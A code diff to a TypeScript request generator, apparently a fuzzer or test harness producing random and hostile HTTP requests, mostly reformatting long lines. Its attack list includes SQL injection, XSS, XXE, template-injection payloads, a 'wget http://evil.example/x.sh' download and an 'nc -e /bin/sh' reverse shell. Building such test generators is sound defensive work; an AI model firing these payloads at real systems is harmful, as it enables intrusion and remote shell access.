@@ -23,8 +23,10 @@ const attacks = [
   '() { :; }; /bin/bash -c id', '1 and sleep(5)', '1) or benchmark(1000000,md5(1))#', '<svg/onload=alert`1`>', '%3Cscript%3Ealert(1)%3C/script%3E', "admin'--",
   'a\r\nSet-Cookie: x=y', 'O:8:"stdClass":1:{s:1:"a";i:1;}', '__proto__[admin]=1', '*)(uid=*))(|(uid=*', '<!ENTITY xxe SYSTEM "file:///etc/passwd">', 'rO0ABXNyABFq',
   'wget http://evil.example/x.sh', 'c:\\windows\\system32\\cmd.exe /c dir', '${T(java.lang.Runtime).getRuntime().exec("id")}', "require('child_process').exec('id')",
-  'eval(base64_decode("aWQ="))', '%00', '\u0000', 'file:///etc/shadow', '/etc/./passwd', "1' waitfor delay '0:0:5'--", 'order by 10--', "' having 1=1--", '"><iframe src=//evil>',
-  'select * from information_schema.tables', "'||(select 1)||'", '1e0union select', 'data:text/html;base64,PHNjcmlwdD4=', 'nc -e /bin/sh 192.0.2.1 4444', "'; exec xp_cmdshell('dir')--",
+  'eval(base64_decode("aWQ="))', '%00', '\u0000', 'file:///etc/shadow', '/etc/./passwd', "1' waitfor delay '0:0:5'--", 'order by 10--', "' having 1=1--",
+    '"><iframe src=//evil>',
+  'select * from information_schema.tables', "'||(select 1)||'", '1e0union select', 'data:text/html;base64,PHNjcmlwdD4=', 'nc -e /bin/sh 192.0.2.1 4444',
+    "'; exec xp_cmdshell('dir')--",
 ];
 const hex = '0123456789abcdef';
 
@@ -82,7 +84,8 @@ export class RequestMaker {
 
   private mutated(text: string): string {
     const at = this.random.below(text.length + 1);
-    return text.slice(0, at) + this.pick(['\\', "'", '"', '&#x27;', '\\u0027', '%u0027', '\xc0\xaf', '\x00', '/*x*/', '<!--', '`', '$', '(', ')', ';', '\xa0', '%']) + text.slice(at + this.random.below(2));
+    return text.slice(0, at) + this.pick(['\\', "'", '"', '&#x27;', '\\u0027', '%u0027', '\xc0\xaf', '\x00', '/*x*/', '<!--', '`', '$', '(', ')', ';', '\xa0',
+      '%']) + text.slice(at + this.random.below(2));
   }
 
   private text(count: number): string {
@@ -91,7 +94,8 @@ export class RequestMaker {
 
   private name(): string {
     if (this.chance(this.hostility / 4)) return this.attack();
-    return this.pick(['id', 'q', 'page', 'name', 'email', 'user[name]', 'items[]', 'a.b', 'utm_source', '_ga', 'ids[0][x]', 'callback', 'redirect_uri', 'token', 'file', 'url', 'cmd',
+    return this.pick(['id', 'q', 'page', 'name', 'email', 'user[name]', 'items[]', 'a.b', 'utm_source', '_ga', 'ids[0][x]', 'callback', 'redirect_uri', 'token', 'file',
+      'url', 'cmd',
       '$filter', '_method', 'x-y', bytes('größe'), '0', 'sort', 'data', 'lang', '__VIEWSTATE', 'g-recaptcha-response']);
   }
 
@@ -110,12 +114,15 @@ export class RequestMaker {
   }
 
   private pairs(count: number, form: boolean): string {
-    return Array.from({ length: count }, () => (this.chance(5) ? this.encoded(this.name(), form) : `${this.encoded(this.name(), form)}=${this.encoded(this.value(), form)}`)).join('&');
+    return Array.from({ length: count }, () => (this.chance(5) ? this.encoded(this.name(),
+      form) : `${this.encoded(this.name(), form)}=${this.encoded(this.value(), form)}`)).join('&');
   }
 
   private path(): string {
-    const segment = (): string => (this.chance(this.hostility / 3) ? this.encoded(this.attack(), false).replaceAll('%2F', '/') : this.pick(['api', 'v1', 'products', 'wp-content', 'index.php',
-      'img', 'a.b', 'search', this.number(), this.encoded(this.text(1), false), this.token(hex, 24), 'login.aspx', 'style.min.css', 'photo.jpg', 'graphql', '~user', '.well-known', 'x;jsessionid=1A2B', 'backup.sql', '.git']));
+    const segment = (): string => (this.chance(this.hostility / 3) ? this.encoded(this.attack(), false).replaceAll('%2F', '/') : this.pick(['api', 'v1', 'products',
+      'wp-content', 'index.php',
+      'img', 'a.b', 'search', this.number(), this.encoded(this.text(1), false), this.token(hex, 24), 'login.aspx', 'style.min.css', 'photo.jpg', 'graphql', '~user',
+        '.well-known', 'x;jsessionid=1A2B', 'backup.sql', '.git']));
     return `/${Array.from({ length: this.random.below(5) }, segment).join('/')}`;
   }
 
@@ -132,9 +139,11 @@ export class RequestMaker {
 
   private xml(depth: number): string {
     const name = this.pick(['item', 'ns:name', 'soap:Body', 'price', 'v']);
-    const escape = (text: string): string => (this.chance(8) ? text.replaceAll(/[<&]/g, '') : text.replaceAll('&', '&amp;').replaceAll('<', '&lt;')).replaceAll(/[\x00-\x08\x0e-\x1f]/g, '');
+    const escape = (text: string): string => (this.chance(8) ? text.replaceAll(/[<&]/g, '') : text.replaceAll('&', '&amp;').replaceAll('<',
+      '&lt;')).replaceAll(/[\x00-\x08\x0e-\x1f]/g, '');
     const attribute = this.chance(40) ? ` id="${escape(this.value()).replaceAll('"', '&quot;')}"` : '';
-    const inside = depth > 3 || this.chance(40) ? (this.chance(10) ? `<![CDATA[${this.text(3).replaceAll(']]>', '')}]]>` : escape(this.value())) : Array.from({ length: 1 + this.random.below(3) }, () => this.xml(depth + 1)).join('\n  ');
+    const inside = depth > 3 || this.chance(40) ? (this.chance(10) ? `<![CDATA[${this.text(3).replaceAll(']]>', '')}]]>` : escape(this.value())) : Array.from({
+      length: 1 + this.random.below(3) }, () => this.xml(depth + 1)).join('\n  ');
     return `<${name}${attribute}>${inside}</${name}>`;
   }
 
@@ -144,7 +153,9 @@ export class RequestMaker {
     for (let i = 1 + this.random.below(5); i > 0; i--) {
       body += `--${boundary}\r\nContent-Disposition: form-data; name="${quote(this.name())}"`;
       if (this.chance(35)) {
-        body += `; filename="${quote(this.pick(['photo.jpg', 'report (1).pdf', 'shell.php', bytes('Größe.png'), '', 'a.php.jpg', '../x', 'C:\\dir\\x.doc', this.text(1)]))}"\r\nContent-Type: ${this.pick(['image/jpeg', 'application/pdf', 'text/plain; charset=utf-8', 'application/octet-stream'])}`;
+        const fileName = this.pick(['photo.jpg', 'report (1).pdf', 'shell.php', bytes('Größe.png'), '', 'a.php.jpg', '../x', 'C:\\dir\\x.doc', this.text(1)]);
+        const type = this.pick(['image/jpeg', 'application/pdf', 'text/plain; charset=utf-8', 'application/octet-stream']);
+        body += `; filename="${quote(fileName)}"\r\nContent-Type: ${type}`;
         if (this.chance(10)) body += '\r\nContent-Transfer-Encoding: binary';
         body += `\r\n\r\n${this.chance(50) ? this.text(30) : this.token('\x00\x01\xff\xd8abc\r\n-\x80', 200)}\r\n`;
       } else body += `\r\n\r\n${this.value()}\r\n`;
@@ -154,11 +165,16 @@ export class RequestMaker {
 
   private entity(): { type: string; body: string } {
     switch (this.random.below(9)) {
-      case 0: case 1: return { type: this.pick(['application/x-www-form-urlencoded', 'application/x-www-form-urlencoded; charset=UTF-8']), body: this.pairs(1 + this.random.below(10), true) };
-      case 2: case 3: { const text = JSON.stringify(this.json(0)); return { type: this.pick(['application/json', 'application/json; charset=utf-8', 'application/vnd.api+json', 'text/plain;charset=UTF-8']), body: this.chance(8) ? this.mutated(text) : text }; }
-      case 4: case 5: { const boundary = this.pick(['----WebKitFormBoundary7MA4YWxkTrZu0gW', '---------------------------974767299852498929531610575', 'xYzZY']); const body = this.multipart(boundary); return { type: `multipart/form-data; boundary=${boundary}`, body: this.chance(5) ? this.mutated(body) : body }; }
-      case 6: { const body = `<?xml version="1.0"?>\n${this.xml(0)}`; return { type: this.pick(['text/xml', 'application/xml', 'application/soap+xml; charset=utf-8', 'text/xml; charset=utf-8']), body: this.chance(8) ? this.mutated(body) : body }; }
-      case 7: return { type: this.pick(['application/octet-stream', 'text/plain', 'application/x-protobuf', 'application/grpc', '']), body: this.chance(50) ? this.text(10) : this.token('\x00\x01\xff\xd8abc\r\n-\x80', 60) };
+      case 0: case 1: return { type: this.pick(['application/x-www-form-urlencoded', 'application/x-www-form-urlencoded; charset=UTF-8']),
+        body: this.pairs(1 + this.random.below(10), true) };
+      case 2: case 3: { const text = JSON.stringify(this.json(0)); return { type: this.pick(['application/json', 'application/json; charset=utf-8',
+        'application/vnd.api+json', 'text/plain;charset=UTF-8']), body: this.chance(8) ? this.mutated(text) : text }; }
+      case 4: case 5: { const boundary = this.pick(['----WebKitFormBoundary7MA4YWxkTrZu0gW', '---------------------------974767299852498929531610575', 'xYzZY']);
+        const body = this.multipart(boundary); return { type: `multipart/form-data; boundary=${boundary}`, body: this.chance(5) ? this.mutated(body) : body }; }
+      case 6: { const body = `<?xml version="1.0"?>\n${this.xml(0)}`; return { type: this.pick(['text/xml', 'application/xml', 'application/soap+xml; charset=utf-8',
+        'text/xml; charset=utf-8']), body: this.chance(8) ? this.mutated(body) : body }; }
+      case 7: return { type: this.pick(['application/octet-stream', 'text/plain', 'application/x-protobuf', 'application/grpc', '']),
+        body: this.chance(50) ? this.text(10) : this.token('\x00\x01\xff\xd8abc\r\n-\x80', 60) };
       default: return { type: 'application/json', body: JSON.stringify({ query: `query { user(id: "${this.number()}") { name email } }`, variables: { v: this.value() } }) };
     }
   }
@@ -170,16 +186,19 @@ export class RequestMaker {
     headers.push(['Accept', this.pick(['*/*', 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8', 'application/json', 'image/webp'])]);
     if (this.chance(70)) headers.push(['Accept-Encoding', 'gzip, deflate, br'], ['Accept-Language', this.pick(['en-GB,en;q=0.9', 'de', 'fr-CH, fr;q=0.9, *;q=0.5'])]);
     if (this.chance(50)) headers.push(['Referer', `https://www.example.com${this.path()}?${this.pairs(1, false)}`]);
-    if (this.chance(60)) headers.push(['Cookie', Array.from({ length: 1 + this.random.below(6) }, () => `${this.name().replaceAll(/[;\r\n\x00]/g, '')}=${(this.chance(50) ? this.encoded(this.value(), false) : this.value()).replaceAll(/[;\r\n\x00]/g, '')}`).join(this.pick(['; ', '; ', ';']))]);
+    if (this.chance(60)) headers.push(['Cookie', Array.from({ length: 1 + this.random.below(6) },
+      () => `${this.name().replaceAll(/[;\r\n\x00]/g, '')}=${(this.chance(50) ? this.encoded(this.value(), false) : this.value()).replaceAll(/[;\r\n\x00]/g, '')}`)
+        .join(this.pick(['; ', '; ', ';']))]);
     if (this.chance(10)) headers.push(['Authorization', this.pick(['Basic dXNlcjpwYXNz', `Bearer ${this.token(`${hex}._-XYZ`, 120)}`])]);
     if (this.chance(10)) headers.push(['X-Forwarded-For', this.pick(['192.0.2.1, 198.51.100.7', '2001:db8::2'])]);
-    if (this.chance(10)) headers.push([this.pick(['X-Requested-With', 'X-Custom', 'If-None-Match', 'Origin', 'Range', 'Cache-Control']), this.value().replaceAll(/[\r\n\x00]/g, ' ')]);
+    if (this.chance(10)) headers.push([this.pick(['X-Requested-With', 'X-Custom', 'If-None-Match', 'Origin', 'Range', 'Cache-Control']),
+      this.value().replaceAll(/[\r\n\x00]/g, ' ')]);
     if (this.chance(50)) headers.push(['Connection', this.pick(['keep-alive', 'close', 'keep-alive, Upgrade'])]);
     const target = this.path() + (this.chance(60) ? `?${this.pairs(1 + this.random.below(6), false)}` : '') + (this.chance(1) ? '#frag' : '');
     const version = this.pick(['1.1', '1.1', '1.1', '1.1', '1.0']);
     const method = this.pick(['GET', 'GET', 'GET', 'POST', 'POST', 'POST', 'PUT', 'PATCH', 'DELETE', 'HEAD', 'OPTIONS']);
     let body = '';
-    if (/^P/.test(method) || this.chance(3)) {
+    if (method.startsWith('P') || this.chance(3)) {
       const entity = this.entity();
       body = entity.body;
       if (entity.type !== '') headers.push(['Content-Type', entity.type]);
